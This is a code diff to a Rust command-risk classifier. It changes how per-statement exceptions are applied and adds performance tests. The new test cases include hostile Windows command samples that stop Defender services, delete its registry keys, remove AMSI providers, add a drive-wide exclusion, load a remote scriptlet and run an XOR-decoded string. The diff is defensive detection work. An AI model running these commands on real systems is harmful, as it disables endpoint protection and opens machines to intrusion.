@@ -1,6 +1,7 @@
 //! The classes that a peeled command or script belongs to.
 
 use std::collections::{BTreeMap, BTreeSet};
+use std::ops::Range;
 use std::sync::LazyLock;
 
 use regex::Regex;
@@ -65,10 +66,10 @@ pub(in crate::risk) fn read(peeled: &Peeled, subject: &str) -> Reading {
         layers.push((&layer.layer, with_plain_numbers(&text)));
     }
     for (layer, text) in &layers {
+        let mut excused = None;
         PATTERNS.matches(text, |index, range| {
             let Some(row) = ROWS.get(index) else { return Wanted::NoMore };
-            let statement = statement(text, &range);
-            if row.unless.as_ref().is_some_and(|unless| unless.is_match(statement)) {
+            if row.unless.as_ref().is_some_and(|unless| is_excused(text, index, &range, unless, &mut excused)) {
                 return Wanted::More;
             }
             let own = RiskFinding::new(row.class, subject).shows_layer(layer, line_of(text, range.start));
@@ -118,12 +119,37 @@ pub(in crate::risk) fn read(peeled: &Peeled, subject: &str) -> Reading {
     reading
 }
 
-/// The command that a match is in, without those before and after it in the line.
-fn statement<'t>(text: &'t str, range: &std::ops::Range<usize>) -> &'t str {
-    const ENDS: [char; 4] = ['\n', '&', '|', ';'];
+/// What ends a statement.
+const ENDS: [char; 4] = ['\n', '&', '|', ';'];
+
+/// Whether the statement around a match fits a pattern that excuses it. `last` is the row and the place of the statement
+/// that was excused before, so that a long one is not read again for each match in it.
+fn is_excused(
+    text: &str,
+    row: usize,
+    range: &Range<usize>,
+    unless: &Regex,
+    last: &mut Option<(usize, Range<usize>)>,
+) -> bool {
+    let is_in = |(of, statement): &(usize, Range<usize>)| {
+        *of == row && statement.start <= range.start && range.end <= statement.end
+    };
+    if last.as_ref().is_some_and(is_in) {
+        return true;
+    }
+    let statement = statement(text, range);
+    let is_excused = text.get(statement.clone()).is_some_and(|statement| unless.is_match(statement.trim()));
+    // A match over several statements says nothing of each of them.
+    let is_one = text.get(range.clone()).is_some_and(|matched| !matched.contains(ENDS));
+    *last = Some((row, statement)).filter(|_| is_excused && is_one);
+    is_excused
+}
+
+/// The place of the command that a match is in, without those before and after it in the line.
+fn statement(text: &str, range: &Range<usize>) -> Range<usize> {
     let start = text.get(..range.start).and_then(|before| before.rfind(ENDS)).map_or(0, |at| at + 1);
     let end = text.get(range.end..).and_then(|rest| rest.find(ENDS)).map_or(text.len(), |at| range.end + at);
-    text.get(start..end).unwrap_or_default().trim()
+    start..end
 }
 
 fn line_of(text: &str, at: usize) -> &str {
@@ -236,6 +262,15 @@ mod tests {
             "msiexec /y C:\\x\\a.dll",
             "rundll32 a.dat,Start",
             "fltmc unload WdFilter",
+            "'WinDefend','Sense' | % { Stop-Service $_ }",
+            "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /f",
+            "Remove-Item HKLM:\\SOFTWARE\\Microsoft\\AMSI\\Providers\\*",
+            "GetObject(\"script:https://a.example/a.sct\")",
+            "[InternetShortcut]\r\nURL=file://a.example/d/a.exe",
+            "[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc(IntPtr a)",
+            "$p = @{ DisableRealtimeMonitoring = $true }\nSet-MpPreference @p",
+            "$p = @{\n  'ExclusionPath' = 'C:\\'\n}\nAdd-MpPreference @p",
+            "$s = -join ($b | % { [char]($_ -bxor 67) }); & $s",
             "dism /online /disable-feature /featurename:Windows-Defender /remove",
             "sc sdset WinDefend D:(D;;GA;;;WD)",
             "cmd /c rd /s /q C:\\Users\\somebody",
@@ -278,9 +313,30 @@ mod tests {
             "Copy-Item \\\\fs01.contoso.com\\software\\7z.msi C:\\t\\\nmsiexec /i C:\\t\\7z.msi /qn",
             "start /wait setup.exe /S\ncurl -o C:\\t\\readme.txt https://intranet.contoso.com/readme.txt",
             "Invoke-RestMethod -Method Post -Uri https://inventory.contoso.com/api -Body $json",
+            "$ExclusionPath = 'C:\\Contoso'\nrobocopy C:\\Data D:\\ /xd $ExclusionPath",
+            "$DisableRealtimeMonitoring = $false",
+            "'WinDefend','Sense' | % { Start-Service $_ }",
+            "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\ContosoAgent /f",
+            "[InternetShortcut]\nURL=https://intranet.contoso.com/help.html",
             "secedit /configure /db secedit.sdb /cfg baseline.inf",
         ] {
             assert!(!classes(line).iter().any(|class| class.ends_with("high")), "{line}: {:?}", classes(line));
+        }
+    }
+
+    #[test]
+    fn hostile_texts_end_soon() {
+        for part in [
+            "copy n.txt ",
+            "copy \\\\a\\b.exe ",
+            "curl -o a.exe http://a.example/a ",
+            "start a.exe ",
+            "sc config mpssvc start= auto ",
+            "reg add x ",
+            "Set-MpPreference -DisableRealtimeMonitoring $false ",
+            "ping -n 1 ",
+        ] {
+            classes(&part.repeat((1 << 20) / part.len()));
         }
     }
 }
